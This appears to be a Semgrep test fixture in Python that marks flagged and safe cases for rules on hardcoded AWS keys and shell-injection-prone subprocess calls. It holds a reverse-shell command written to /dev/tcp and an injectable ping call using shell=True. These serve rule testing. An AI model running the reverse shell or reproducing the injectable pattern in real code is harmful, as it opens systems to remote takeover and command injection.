# Semgrep test fixture - parsed by `semgrep --test`, never executed.
# All credentials below are the public AWS documentation examples, not real keys.
import os
import subprocess

# ruleid: hardcoded-aws-access-key
AWS_ACCESS_KEY_ID = "AKIAIOSFODNN7EXAMPLE"
AWS_SECRET_ACCESS_KEY = "wJalrXUtnFEMI/K7MDENG/bPxRfiCYEXAMPLEKEY"

# ok: hardcoded-aws-access-key
AWS_ACCESS_KEY_ID_OK = os.environ.get("AWS_ACCESS_KEY_ID")


def ping(host):
    # ruleid: subprocess-shell-true-with-input
    subprocess.run(f"ping -c1 {host}", shell=True)


def fixture_reverse_shell_string(host):
    # ruleid: subprocess-shell-true-with-input
    subprocess.call(f"bash -i >& /dev/tcp/{host}/4444 0>&1", shell=True)


def safe_ping(host):
    # ok: subprocess-shell-true-with-input
    subprocess.run(["ping", "-c1", host], check=True)
